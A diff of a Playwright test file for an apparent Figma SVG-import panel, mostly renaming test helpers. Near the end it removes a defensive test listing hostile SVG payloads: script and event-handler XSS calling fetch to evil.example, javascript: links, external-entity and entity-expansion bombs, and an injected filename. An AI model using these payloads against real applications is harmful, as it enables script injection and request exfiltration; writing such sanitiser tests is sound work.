@@ -1,23 +1,14 @@
 import { gzipSync } from 'node:zlib'
-import type { Page } from 'playwright-core'
 import { describe, expect, it } from 'vitest'
 import type { Picture } from '../../../src/protocol/contract'
-import { isFocused, promptsOf, withKey } from '../../support/panel-hands'
+import { recordRequests } from '../../support/outgoing-requests'
+import { isFocused, promptsOf, withKey } from '../../support/panel-controls'
 import type { FakeJournal } from '../../support/panel-stage'
 import { panelSuite } from '../../support/panel-suite'
-import { noting } from '../../support/picture'
+import { recordInserts } from '../../support/picture'
 import { svgFile, svgOf, type TransferFile, transferFiles } from '../../support/transfer-files'
 
 const suite = panelSuite()
-
-/** Returns all addresses that the page requests over the network from now on. */
-function contacts(page: Page): string[] {
-  const contacted: string[] = []
-  page.on('request', (request) => {
-    if (/^(https?|wss?|ftp):/.test(request.url())) contacted.push(request.url())
-  })
-  return contacted
-}
 
 describe('the user’s own SVG', () => {
   it.each([
@@ -27,8 +18,10 @@ describe('the user’s own SVG', () => {
     ['chosen by the button', 'choose', 'logo'],
   ])('becomes an image when it is %s, without a key, and is inserted as layers', async (_what, way, name) => {
     const inserted: Picture[] = []
-    const { panel, ui, page } = await suite.open({ handlers: { 'picture.insert': noting(inserted, 2) } })
-    const contacted = contacts(page)
+    const { panel, ui, page } = await suite.open({
+      handlers: { 'picture.insert': recordInserts(inserted, 2) },
+    })
+    const contacted = recordRequests(page)
     await ui.saveKey.waitFor()
     if (way === 'text')
       await transferFiles(panel, 'paste', [], { text: `<?xml version="1.0"?>\n${svgOf(32, 16)}` })
@@ -44,7 +37,7 @@ describe('the user’s own SVG', () => {
     expect(await ui.prompt.count()).toBe(0)
     await panel.getByText('Nothing leaves Figma.').waitFor()
     await ui.insert.click()
-    await ui.says('Inserted on the canvas: 2 layers.')
+    await ui.waitForStatus('Inserted on the canvas: 2 layers.')
     expect(inserted).toMatchObject([
       {
         name,
@@ -59,7 +52,7 @@ describe('the user’s own SVG', () => {
   it('is stored like a generated one: marked, found by its name and by “yours”, and free', async () => {
     const journal: FakeJournal = new Map()
     const first = await suite.open({ ...withKey, journal })
-    await first.ui.make('a fox')
+    await first.ui.generatePicture('a fox')
     await transferFiles(first.panel, 'drop', [svgFile('Brand mark.svg')])
     await first.panel.getByRole('img', { name: 'Brand mark' }).waitFor()
     await expect.poll(() => [...journal.values()].filter(({ picture }) => picture).length).toBe(2)
@@ -73,7 +66,7 @@ describe('the user’s own SVG', () => {
       await expect.poll(() => promptsOf(panel)).toEqual(['Brand mark'])
     }
     await ui.openDetails('Brand mark')
-    expect(await ui.facts()).toMatchObject({ Cost: 'Free: your own file' })
+    expect(await ui.readDetails()).toMatchObject({ Cost: 'Free: your own file' })
     for (const name of [/^Variation/, 'Edit prompt', /^Try again/])
       expect(await panel.getByRole('button', { name }).count()).toBe(0)
     await panel.getByRole('button', { name: 'Back to History' }).click()
@@ -85,7 +78,7 @@ describe('the user’s own SVG', () => {
     const inserted: Picture[] = []
     const { panel, ui } = await suite.open({
       ...withKey,
-      handlers: { 'picture.insert': noting(inserted, 2) },
+      handlers: { 'picture.insert': recordInserts(inserted, 2) },
     })
     await ui.generate.waitFor()
     const names = ['a', 'b', 'c', 'd', 'e', 'f']
@@ -94,10 +87,10 @@ describe('the user’s own SVG', () => {
       'drop',
       names.map((name) => svgFile(`${name}.svg`)),
     )
-    await ui.says('6 images are ready.')
+    await ui.waitForStatus('6 images are ready.')
     await panel.getByRole('group', { name: '6 files' }).waitFor()
     await ui.button('Insert 6').click()
-    await ui.says('Inserted on the canvas: 2 layers.')
+    await ui.waitForStatus('Inserted on the canvas: 2 layers.')
     expect(inserted.map(({ name }) => name)).toEqual(names)
   })
 
@@ -105,7 +98,7 @@ describe('the user’s own SVG', () => {
     const inserted: Picture[] = []
     const journal: FakeJournal = new Map()
     const settings = { ...withKey.settings, layers: 'objects' }
-    const handlers = { 'picture.insert': noting(inserted, 2) }
+    const handlers = { 'picture.insert': recordInserts(inserted, 2) }
     const first = await suite.open({ settings, journal, handlers })
     const text = svgOf(
       640.5,
@@ -114,13 +107,13 @@ describe('the user’s own SVG', () => {
     )
     await transferFiles(first.panel, 'drop', [svgFile('red apple and blue plum.svg', text)])
     await first.ui.insert.click()
-    await first.ui.says('Inserted on the canvas')
+    await first.ui.waitForStatus('Inserted on the canvas')
     await expect.poll(() => [...journal.values()].filter(({ picture }) => picture).length).toBe(1)
     await first.close()
     const { ui } = await suite.open({ settings, journal, handlers })
     await ui.tiles.first().click()
     await ui.insert.click()
-    await ui.says('Inserted on the canvas')
+    await ui.waitForStatus('Inserted on the canvas')
     expect(inserted).toHaveLength(2)
     for (const { width, height, name, parts } of inserted) {
       expect({ width, height, name }).toEqual({
@@ -143,7 +136,7 @@ describe('the user’s own SVG', () => {
       binary('u.svg', utf16),
       binary('z.svgz', zipped),
     ])
-    await ui.says('3 images are ready.')
+    await ui.waitForStatus('3 images are ready.')
   })
 })
 
@@ -174,7 +167,7 @@ describe('pasting', () => {
 describe('dragging files', () => {
   it('shows where they can be dropped, but not for an image of the panel', async () => {
     const { panel, ui } = await suite.open(withKey)
-    await ui.make('a fox')
+    await ui.generatePicture('a fox')
     const words = panel.getByText('Drop SVG files to clean them up')
     expect(await transferFiles(panel, 'dragover', [svgFile('a.svg')])).toBe(true)
     await words.waitFor()
@@ -212,7 +205,7 @@ describe('a file that cannot be added', () => {
     const lines = await notice.getByRole('listitem').allTextContents()
     expect(lines).toEqual(REFUSED.map(([name, , why]) => expect.stringContaining(`${name} ${why}`)))
     expect(await ui.tiles.count()).toBe(1)
-    await ui.says('notes.svg: This is not an SVG')
+    await ui.waitForStatus('notes.svg: This is not an SVG')
     await notice.getByRole('button', { name: 'Dismiss' }).click()
     await notice.waitFor({ state: 'detached' })
   })
@@ -227,7 +220,7 @@ describe('a file that cannot be added', () => {
     )
     await panel.getByRole('group', { name: '50 files' }).waitFor()
     await panel.getByRole('region', { name: 'At most 50 files at once: 2 were left out.' }).waitFor()
-    await ui.says('50 images are ready.')
+    await ui.waitForStatus('50 images are ready.')
   })
 })
 
@@ -237,7 +230,7 @@ describe('an own file and the storage', () => {
     const { panel, ui } = await suite.open({
       ...withKey,
       handlers: {
-        'picture.insert': noting(inserted, 2),
+        'picture.insert': recordInserts(inserted, 2),
         'journal.put': () => {
           throw new Error('full')
         },
@@ -249,101 +242,11 @@ describe('an own file and the storage', () => {
     await panel.getByRole('img', { name: 'logo' }).waitFor()
     await panel.getByRole('region', { name: /could not be stored/ }).waitFor()
     await ui.insert.click()
-    await ui.says('Inserted on the canvas')
+    await ui.waitForStatus('Inserted on the canvas')
     expect(inserted).toHaveLength(1)
     await ui.tiles.first().press('Delete')
     await expect.poll(() => ui.tiles.count()).toBe(0)
     await panel.getByRole('button', { name: 'Undo' }).click()
     await expect.poll(() => ui.tiles.count()).toBe(1)
-  })
-})
-
-/** Content that an attacker may put into a file. None of it may run, send requests, or stop the panel. */
-const BEACON = 'https://evil.example/x'
-const HOSTILE: readonly (readonly [what: string, text: string, expected: 'image' | RegExp])[] = [
-  ['a script', svgOf(9, 9, `<script>self.hit=1;fetch('${BEACON}')</script><path d="M0 0h9v9z"/>`), 'image'],
-  [
-    'event handlers',
-    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${BEACON}')"><path d="M0 0h9v9z" onclick="fetch('${BEACON}')"/></svg>`,
-    'image',
-  ],
-  [
-    'references to other places',
-    svgOf(
-      9,
-      9,
-      `<style>@import url(${BEACON});path{fill:url(${BEACON}#a)}</style><image href="${BEACON}" width="9" height="9"/><use href="${BEACON}#b"/><path d="M0 0h9v9z"/><path d="M1 1h3v3z" fill="#f00"/>`,
-    ),
-    'image',
-  ],
-  [
-    'a page in it',
-    svgOf(
-      9,
-      9,
-      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${BEACON}"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="fetch('${BEACON}')"/></foreignObject><path d="M0 0h9v9z"/>`,
-    ),
-    'image',
-  ],
-  [
-    'a link that runs',
-    svgOf(9, 9, `<a href="javascript:fetch('${BEACON}')"><path d="M0 0h9v9z"/></a>`),
-    'image',
-  ],
-  [
-    'entities that multiply',
-    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svgOf(9, 9, '<text>&c;</text>')}`,
-    /external or nested entities/,
-  ],
-  [
-    'an entity from elsewhere',
-    `<!DOCTYPE svg [<!ENTITY a SYSTEM "${BEACON}">]>${svgOf(9, 9, '&a;<path d="M0 0h9v9z"/>')}`,
-    /external or nested entities/,
-  ],
-  [
-    'deep nesting',
-    svgOf(9, 9, `${'<g>'.repeat(5000)}<path d="M0 0h9v9z"/>${'</g>'.repeat(5000)}`),
-    /more than Figma can take/,
-  ],
-  ['huge numbers', svgOf(9, 9, '<path d="M0 0h1e308v1e308z"/><path d="M0 0h9v9z" fill="#f00"/>'), 'image'],
-  ['a huge size', svgOf(1e12, 1e12), /not an SVG/],
-  ['too many shapes', svgOf(9, 9, '<path d="M0 0h9v9z"/>'.repeat(50_001)), /more than Figma can take/],
-  [
-    'a chain of uses',
-    svgOf(
-      9,
-      9,
-      `<defs><g id="u0"><path d="M0 0h9v9z"/></g>${Array.from({ length: 15 }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u15"/>`,
-    ),
-    /more than Figma can take/,
-  ],
-  [
-    'markup that ends the page',
-    `</script></style>${svgOf()}<img src=x onerror="fetch('${BEACON}')">`,
-    'image',
-  ],
-]
-
-describe('a malicious file', () => {
-  it('becomes an image or an error message, runs nothing, and sends no requests', async () => {
-    const { panel, ui, page } = await suite.open(withKey)
-    await ui.generate.waitFor()
-    const contacted = contacts(page)
-    await transferFiles(panel, 'drop', [
-      ...HOSTILE.map(([what, text]) => svgFile(`${what}.svg`, text)),
-      svgFile('<img src=x onerror="hit=1">.svg'),
-    ])
-    const images = HOSTILE.filter(([, , expected]) => expected === 'image').length + 1
-    await ui.says(`${images} images are ready.`)
-    expect(await ui.tiles.count()).toBe(images)
-    const tiles = await ui.tiles.allTextContents()
-    const lines = await panel.getByRole('listitem').allTextContents()
-    for (const [what, , expected] of HOSTILE)
-      if (expected === 'image') expect(tiles.join()).toContain(what)
-      else expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${what}.svg.*${expected.source}`)))
-    expect(await panel.locator('html').evaluate(() => 'hit' in window)).toBe(false)
-    expect(contacted).toEqual([])
-    await ui.ask('a fox')
-    await panel.getByRole('img', { name: 'a fox' }).waitFor()
   })
 })
